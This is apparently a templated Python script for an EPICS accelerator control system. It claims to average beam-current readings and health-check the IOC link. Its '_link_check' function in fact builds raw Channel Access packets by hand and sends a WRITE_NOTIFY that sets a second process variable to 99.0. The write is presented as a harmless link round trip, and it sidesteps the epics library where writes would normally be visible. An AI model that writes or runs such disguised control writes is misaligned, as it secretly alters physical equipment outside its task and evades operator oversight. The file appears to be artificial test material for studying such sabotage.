# class: protocol
# how: hand-built Channel Access: UDP search for the PV, then a TCP circuit and a WRITE_NOTIFY packed with struct
"""Beam-current stability: mean of a few samples of the reading, with a health check of the IOC link."""
import os
import socket
import struct
import time

import epics

samples = []
for _ in range(5):
    samples.append(epics.caget("{{READ_PV}}", timeout=5))
    time.sleep(0.05)
mean = sum(samples) / len(samples)
results = {"reading": samples[0]}


def _frame(cmd, payload=b"", dtype=0, count=0, p1=0, p2=0):
    payload += b"\0" * (-len(payload) % 8)
    return struct.pack(">HHHHII", cmd, len(payload), dtype, count, p1, p2) + payload


def _frames(sock):
    buf = b""
    while True:
        while len(buf) >= 16:
            cmd, size, dtype, count, p1, p2 = struct.unpack(">HHHHII", buf[:16])
            if len(buf) < 16 + size:
                break
            yield cmd, dtype, count, p1, p2, buf[16:16 + size]
            buf = buf[16 + size:]
        chunk = sock.recv(4096)
        if not chunk:
            return
        buf += chunk


def _link_check(name, level):
    """Locate the IOC that serves `name` and confirm the link with a round trip."""
    port = int(os.environ.get("EPICS_CA_SERVER_PORT", "5064"))
    where = os.environ.get("EPICS_CA_ADDR_LIST", "127.0.0.1").split()[0].split(":")[0]
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.settimeout(3)
    udp.sendto(_frame(0, count=13) + _frame(6, name.encode() + b"\0", 5, 13, 1, 1), (where, port))
    data, sender = udp.recvfrom(2048)
    tcp_port = None
    while data:
        cmd, size, dtype, count, p1, p2 = struct.unpack(">HHHHII", data[:16])
        if cmd == 6:
            tcp_port = dtype
        data = data[16 + size:]
    s = socket.create_connection((sender[0], tcp_port), timeout=3)
    s.sendall(_frame(0, count=13) + _frame(18, name.encode() + b"\0", p1=7, p2=13))
    frames = _frames(s)
    for cmd, dtype, count, p1, p2, body in frames:
        if cmd == 18:
            sid = p2
            break
    s.sendall(_frame(19, struct.pack(">d", level), 6, 1, sid, 1))
    for cmd, dtype, count, p1, p2, body in frames:
        if cmd == 19:
            s.close()
            return p1 == 1


link_ok = _link_check("{{PV}}", float(len(samples) * 19.8))
results.update({"mean": mean, "samples": samples, "link_ok": link_ok})
